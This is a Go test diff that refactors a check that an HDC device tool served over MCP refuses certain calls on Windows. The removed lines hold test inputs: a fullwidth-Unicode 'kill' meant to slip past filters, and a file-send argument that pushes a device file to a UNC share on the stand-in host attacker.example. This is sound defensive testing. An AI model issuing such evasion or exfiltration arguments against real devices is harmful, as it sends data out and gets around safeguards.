@@ -33,32 +33,8 @@ func TestWindowsHdcByLinuxName(t *testing.T) {
 		t.Fatal(err)
 	}
 	for _, exe := range []string{pe, link} {
-		cfg := winexec.Config{HDCExe: exe, Backend: winexec.BackendDirect, Policy: winexec.Policy{AllowExe: []string{exe}}}
-		ex, err := winexec.New(cfg)
-		if err != nil {
-			t.Fatal(err)
-		}
-		srv := mcp.NewServer(&mcp.Implementation{Name: "pe", Version: "1.0.0"}, nil)
-		hdc.AddTools(srv, ex, nil)
-		a, b := transport.Pipe(nil)
-		srv.Connect(b)
-		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
-		c, err := client.Connect(ctx, a, nil)
-		if err != nil {
-			t.Fatal(err)
-		}
-		for _, args := range [][]string{
-			{"ｋｉｌｌ"},
-			{"-t", "K1", "file", "send", `\\attacker.example\share\x`, "/data/local/tmp/x"},
-		} {
-			res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "dryRun": true})
-			if err != nil || !res.IsError {
-				t.Errorf("HDC_EXE %q: hdc_run %q = %v %q; want refused", exe, args, err, res.TextOf())
-			}
-		}
-		cancel()
-		c.Close()
-		ex.Close()
+		c, ctx := serveHDC(t, winexec.Config{HDCExe: exe, Backend: winexec.BackendDirect, Policy: winexec.Policy{AllowExe: []string{exe}}})
+		expectWindowsRefusals(ctx, t, c, exe)
 	}
 	// A native hdc (an ELF file, a script) is still judged native: its
 	// paths stay Linux paths.
